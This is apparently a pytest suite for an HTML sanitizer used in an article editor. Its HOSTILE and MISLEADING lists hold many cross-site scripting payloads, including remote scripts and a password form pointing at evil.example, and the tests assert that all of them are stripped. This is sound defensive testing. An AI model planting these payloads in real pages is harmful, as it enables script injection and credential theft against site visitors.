"""Nothing that an editor types, pastes or imports becomes more than text and plain markup."""

import re
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import articles
from articles import sources
from articles.models import Article
from articles.nesting import DEEPEST, VOID, nested
from articles.richtext import (
    ATTRIBUTES,
    TAGS,
    Cleaned,
    absolute,
    clean,
    free_id,
    plain,
    render,
)
from benchmarks.clean import HOSTILE_SHAPES, hostile
from psywellpath.pages.text_editor import OWN
from tests.support.articles.factories import article

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/media/a.png' onload='alert(1)'>",
    '<img src="https://evil.example/pixel.gif">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<img src="/media/../admin/logout/">',
    '<img src="/media/a.png?track=1">',
    '<img srcset="https://evil.example/x 1x" src="/media/a.png">',
    "<svg onload=alert(1)><circle r=9 /></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='evil.swf'></object><embed src='evil.swf'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='//evil.example/phish'>x</a>",
    "<a href='\\\\evil.example/phish'>x</a>",
    "<a href='/\\evil.example/phish'>x</a>",
    "<a href='#' onclick='alert(1)'>x</a>",
    "<a href='/' target='_blank' ping='https://evil.example'>x</a>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<p id=content name=cookie>clobber</p>",
    "<h2 id=content onmouseover=alert(1)>x</h2>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)><source src=x></video>",
    "<audio src=x autoplay></audio>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><p>x</p>",
    "<p class='admin-only'>x</p>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<td onclick=alert(1)>loose cell</td>",
    "\x00<img src=x\x00 onerror=alert(1)>",
    "<abbr title='\"><script>alert(1)</script>'>x</abbr>",
]  # fmt: skip
TAG = re.compile(r'<(/?)([^\s>/]+)((?:\s[^\s=>]+="[^"]*")*)>')


def holds_only_what_is_allowed(html: str) -> None:
    """Reads the output with a pattern that accepts nothing but our own tags and attributes."""
    for bracket in re.finditer("<", html):
        tag = TAG.match(html, bracket.start())
        assert tag, html
        name = tag[2]
        assert name in TAGS, html
        for attribute, value in re.findall(r'\s([^\s=>]+)="([^"]*)"', tag[3]):
            assert attribute in ATTRIBUTES.get(name, set()) | {"rel"}, html
            if attribute == "href":
                assert re.match(r"(https?:|mailto:|tel:|/(?![/\\])|#|[\w?.-]|$)", value), html
                assert not re.match(r"\s*(javascript|vbscript|data|file)\s*:", value, re.I), html
            if attribute == "src":
                assert value.startswith("/media/"), html
                assert ".." not in value, html


@pytest.mark.parametrize("payload", HOSTILE)
@pytest.mark.parametrize("around", ["{}", "<p>before {} after</p>", "<ul><li>{}</ul>"])
def test_no_payload_survives(payload, around):
    cleaned = clean(around.format(payload))
    holds_only_what_is_allowed(cleaned)
    assert clean(cleaned) == cleaned


def test_a_text_that_was_changed_after_cleaning_is_cleaned_again(db):
    once = clean("<p>kept</p>")
    assert isinstance(once, Cleaned)
    it = article(body=once)
    it.body = once + "<script>alert(1)</script>"
    it.save()
    Article.objects.update(body=once.replace("kept", "<img src=x onerror=alert(1)>kept"))
    assert Article.objects.get().body == "<p>kept</p>"
    # Nothing else makes one.
    made = [path for path in Path(articles.__file__).parent.rglob("*.py")
            if "Cleaned(" in path.read_text()]  # fmt: skip
    assert [path.name for path in made] == ["richtext.py"]


@given(st.text(alphabet="<>/=\"' abchimgsrconpt:javl-!&;#\\\x00", max_size=120))
def test_no_random_characters_survive(soup):
    cleaned = clean(soup)
    holds_only_what_is_allowed(cleaned)
    assert clean(cleaned) == cleaned


@pytest.mark.parametrize("way", ["create", "save", "bulk_create", "bulk_update", "update"])
def test_every_way_into_the_database_is_cleaned(way, db, client):
    dirty = "<p>kept</p><script>alert(1)</script>"
    it = article(body=dirty if way == "create" else "<p>clean</p>")
    if way == "save":
        it.body = dirty
        it.save()
        assert it.body == "<p>kept</p>"
    elif way == "bulk_create":
        Article.objects.all().delete()
        it.pk, it.body = None, dirty
        Article.objects.bulk_create([it])
    elif way == "bulk_update":
        it.body = dirty
        Article.objects.bulk_update([it], ["body"])
    elif way == "update":
        Article.objects.update(body=dirty)
    assert Article.objects.get().body == "<p>kept</p>"
    page = client.get("/articles/a-safe-place/").content.decode()
    assert "alert(1)" not in page


def test_the_field_shows_what_the_server_keeps():
    """The text field's own list of what an article may contain."""
    listed = (OWN / "allowed.js").read_text().split("ALLOWED = {")[1].split("};")[0]
    found = dict(re.findall(r"(\w+): \[([^\]]*)\]", listed))
    assert {tag: set(re.findall(r"\w+", names)) for tag, names in found.items()} == {
        tag: ATTRIBUTES.get(tag, set()) for tag in TAGS
    }


def test_what_the_editor_writes_stays_as_it_is():
    written = (
        '<h2>One</h2><p>A <strong>bold</strong> and <em>quiet</em> <a href="/assessments/" '
        'rel="noopener">link</a>.<br>Next.</p><ul><li><p>a</p></li></ul><ol start="3"><li>b</li>'
        '</ol><blockquote><p>Said.</p></blockquote><hr><figure><img src="/media/pictures/a1.png" '
        'alt="Hills" width="800" height="600"><figcaption>Hills.</figcaption></figure>'
        '<table><tbody><tr><th colspan="2">x</th></tr></tbody></table>'
    )
    assert clean(written) == written


@pytest.mark.parametrize("href", ["https://example.org/a?b=c#d", "mailto:a@example.org",
                                  "tel:14416", "/articles/", "#part", "other/"])  # fmt: skip
def test_good_links_stay(href):
    assert f'href="{href}"' in clean(f'<a href="{href}">x</a>')
    assert 'rel="noopener"' in clean(f'<a href="{href}" rel="opener">x</a>')


MISLEADING = [
    "\x01javascript:alert(1)", "&#x1f;javascript:alert(1)", "java\tscript:alert(1)",
    "java&#10;script:alert(1)", "java\u200bscript:alert(1)", "\u2028vbscript:x", "\ufeffdata:x,y",
    "\\\\evil.example", "/\\evil.example", "&#92;&#92;evil.example", "https:\\\\evil.example",
    "https:/\\evil.example", "./\\evil.example", "//evil.example", " //evil.example",
    "&#1;//evil.example", "\u200b//evil.example", "/\t/evil.example", "/&#10;\\evil.example",
]  # fmt: skip


def test_no_address_hides_where_it_leads():
    """A browser leaves such signs out and reads a backslash as a slash."""
    for href in MISLEADING:
        assert clean(f'<a href="{href}">x</a>') == '<a rel="noopener">x</a>', ascii(href)


def test_empty_paragraphs_at_the_end_go():
    assert clean("<p>x</p><p></p><p> <br></p>") == "<p>x</p>"
    assert clean("<p>x</p>\n<h2>&nbsp; <br></h2><p>\u00a0</p> ") == "<p>x</p>"
    assert clean("<p>x</p><p></p><hr>") == "<p>x</p><p></p><hr>"
    assert clean("<p></p>") == ""


def test_the_end_of_a_text_is_looked_at_once_however_long_it_is():
    """As many calls for three thousand empty paragraphs as for three."""

    def calls(html: str) -> int:
        calls_made = 0

        def count(frame, event, _argument) -> None:
            nonlocal calls_made
            calls_made += event == "c_call" and frame.f_code.co_name == "_cleaned"

        sys.setprofile(count)
        try:
            assert clean(html) == "<p>x</p>"
        finally:
            sys.setprofile(None)
        return calls_made

    for empty in ("<p></p>", "<p> <br></p>\n", "<h2>&nbsp;</h2>"):
        assert calls("<p>x</p>" + empty * 3_000) == calls("<p>x</p>" + empty * 3)


@pytest.mark.parametrize("name", HOSTILE_SHAPES)
def test_hostile_texts_come_out_shallow_and_small(name):
    """Depth and length of the markup decide how long a parser takes."""
    texts = [hostile(name, size) for size in (4_000, 40_000)]
    for html in texts:
        assert depth(nested(html, {tag: {"title"} for tag in TAGS})) <= DEEPEST
        assert clean(clean(html)) == clean(html)
    small, large = (len(clean(html)) for html in texts)
    assert large <= 11 * small + 100


def depth(html: str) -> int:
    """Of well nested elements; fails for others."""
    deepest, now = 0, list[str]()
    for end, name in re.findall(r'<(/?)(\w+)(?: \w+="[^"]*")*>', html):
        if end:
            assert now.pop() == name
        elif name not in VOID:
            now.append(name)
        deepest = max(deepest, len(now))
    assert not now
    return deepest


@pytest.mark.parametrize(
    ("typed", "cleaned"),
    [
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<p>a<div>b</div>c", "<p>a</p>bc"),
        ("<ul><li>a<li>b<ul><li>c</ul>d</ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul>d</li></ul>"),
        ("<p>a<br/>b<hr>c", "<p>a<br>b</p><hr>c"),
        ("<B>a<I>b</B>c</I>", "<b>a<i>b</i></b>c"),
        ("<h2>a<h3>b", "<h2>a</h2><h3>b</h3>"),
        ("<p>a</em>b</p></p></div>", "<p>ab</p>"),
        ("a < b <3 & <!-- c --> d <!x> <?y?> </ z>", "a &lt; b &lt;3 &amp;  d"),
        ("<p title='x>y' data-a=\"<b>\">a</p>", "<p>a</p>"),
        ("<abbr title=it's>a</abbr>", '<abbr title="it\'s">a</abbr>'),
        ("<abbr title = 'a \"b\"'>c</abbr>", '<abbr title="a &quot;b&quot;">c</abbr>'),
        ("<script>if (a</p>b)</script >c<style>d", "c"),
        ("<p>a<b>b<a href=", "<p>a<b>b</b></p>"),
        ("<td>loose", "loose"),
    ],
)
def test_what_is_sloppy_is_read_as_a_browser_reads_it(typed, cleaned):
    assert clean(typed) == cleaned


def test_too_deep_elements_lose_their_tags_and_keep_their_words():
    cleaned = clean("<blockquote>" * 60 + "words" + "</blockquote>" * 60 + "<p>after</p>")
    assert (
        cleaned == "<blockquote>" * DEEPEST + "words" + "</blockquote>" * DEEPEST + "<p>after</p>"
    )


def test_headings_can_be_linked_to_and_never_clash():
    prose = render(clean("<h2>A b</h2><h2>A <em>b</em></h2><h3>Content</h3><h2>आगे</h2><h2>!</h2>"))
    ids = [heading.id for heading in prose.headings]
    assert ids == ["a-b", "a-b-2", "content-2", "आगे", "part"]
    assert '<h2 id="a-b-2">A <em>b</em></h2>' in prose.html
    assert [heading.level for heading in prose.contents] == [2, 2, 2, 2]


def test_a_thousand_headings_alike_are_named_in_as_many_steps():
    class Asked(dict):
        times = 0

        def __contains__(self, key: object) -> bool:
            self.times += 1
            return super().__contains__(key)

    taken = Asked()
    assert [free_id("x", taken) for _ in range(1_000)][-1] == "x-1000"
    assert taken.times < 3_000


def test_words_and_addresses_for_other_places():
    assert plain("<h2>One &amp; two</h2><p>three<br>four</p>") == "One & two three four"
    body = '<p><a href="/articles/" rel="noopener">x</a> <a href="//not/ours">y</a> ="/z</p>'
    assert absolute(body, "https://example.org") == body.replace(
        '"/articles/', '"https://example.org/articles/'
    )


@pytest.mark.parametrize("words", [0, 1, 219, 220, 221, 2200, 2201])
def test_reading_time_follows_from_the_words(words, db):
    it = article(body=f"<p>{'<em>word</em> ' * words}</p>\n\n<hr>")
    it.refresh_from_db()
    assert it.reading_minutes == max(1, -(-words // 220))


def test_sources_are_read_as_they_are_written():
    text = (
        "Title\r\nWho, where.\r\nhttps://example.org\r\n\r\n\r\nOnly a title\n \nhttps://a.example"
    )
    parsed = sources.parse(text)
    assert parsed == [
        sources.Source("Title", "Who, where.", "https://example.org"),
        sources.Source("Only a title"),
        sources.Source("https://a.example", "", "https://a.example"),
    ]
    assert sources.parse(sources.write(parsed[:2])) == parsed[:2]
    assert sources.parse("javascript:alert(1)")[0].url == ""
    assert sources.parse("") == []
